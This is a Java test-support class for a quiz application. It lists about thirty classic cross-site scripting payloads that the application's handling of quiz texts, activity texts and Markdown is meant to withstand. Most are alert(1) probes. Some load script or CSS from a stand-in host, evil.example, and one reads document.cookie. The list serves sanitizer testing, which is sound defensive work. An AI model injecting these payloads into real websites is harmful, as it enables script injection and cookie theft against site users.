package io.quizhall.support;

import java.util.stream.Stream;

/** Classic XSS payloads: every text a user writes (quiz texts, activity texts and Markdown) must survive them. */
public final class XssVectors {

    private XssVectors() {}

    public static Stream<String> all() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<body onload=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<a href=\"jAvAsCrIpT&colon;alert(1)\">click</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<b onmouseover=alert(1)>bold</b>",
                "<b style=\"background:url(javascript:alert(1))\">styled</b>",
                "<i class=x id=y title=z>attributes</i>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<div style=\"width: expression(alert(1))\">ie</div>",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "\"><script>alert(document.cookie)</script>",
                "'><img src=x onerror=alert(1)>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<form action=\"javascript:alert(1)\"><button>go</button></form>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<link rel=stylesheet href=\"javascript:alert(1)\">",
                "<video><source onerror=\"alert(1)\"></video>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><script>alert(1)</script></textarea>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<strong onclick=\"alert(1)\">strong</strong><sub onclick=alert(1)>2</sub>");
    }
}
